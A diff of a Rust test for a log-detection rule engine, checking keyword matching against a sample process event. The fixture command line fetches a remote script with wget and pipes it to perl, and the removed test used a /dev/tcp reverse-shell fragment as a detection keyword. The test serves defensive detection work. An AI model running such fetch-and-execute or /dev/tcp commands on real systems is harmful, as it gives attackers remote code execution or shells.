@@ -87,14 +87,34 @@ fn known_but_absent_counts_as_absent() {
 }
 
 #[test]
-fn keywords_are_searched_in_every_field() {
-    let rules = "title: k\nlogsource: {product: linux}\ndetection:\n  keywords: ['/dev/tcp/*', 'nothing']\n  condition: keywords\n";
-    let (rules, report) = load(rules);
-    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
-    let mut detector = Detector::new(rules);
-    let found = run(&mut detector, &process("e", 0, json!({"CommandLine": "/dev/tcp/203.0.113.7/1"})));
-    assert_eq!(found.len(), 1);
-    assert_eq!(serde_json::to_value(&found[0].matched).unwrap()[0]["field"], "keyword");
+fn keywords_are_searched_in_every_field_and_anywhere_in_it() {
+    let line = json!({"Image": "/usr/bin/bash", "CommandLine": "bash -c wget -qO - http://203.0.113.7/x | perl -"});
+    let rows: &[(&str, bool)] = &[
+        ("['http://', 'nothing']", true),
+        ("['nothing']", false),
+        ("['HTTP://']", true),
+        ("['wget * - http* | perl']", true),
+        ("['perl*wget']", false),
+        ("['/bin/?ash']", true),
+        ("[203]", true),
+        ("{'|all': ['wget', '/usr/bin', 'perl']}", true),
+        ("{'|all': ['wget', 'ruby']}", false),
+        ("{'|all': ['wget*http', 'perl']}", true),
+        ("{'|all': ['wget', 'perl'], Image|endswith: /bash}", true),
+        ("{'|all': ['wget', 'perl'], Image|endswith: /zsh}", false),
+    ];
+    for (keywords, wanted) in rows {
+        let rules = format!(
+            "title: k\nlogsource: {{product: linux}}\ndetection:\n  keywords: {keywords}\n  condition: keywords\n"
+        );
+        let (rules, report) = load(&rules);
+        assert!(report.skipped.is_empty(), "{keywords}: {:?}", report.skipped);
+        let found = run(&mut Detector::new(rules), &process("e", 0, line.clone()));
+        assert_eq!(!found.is_empty(), *wanted, "{keywords}");
+        if *wanted {
+            assert_eq!(serde_json::to_value(&found[0].matched).unwrap()[0]["field"], "keyword", "{keywords}");
+        }
+    }
 }
 
 #[test]
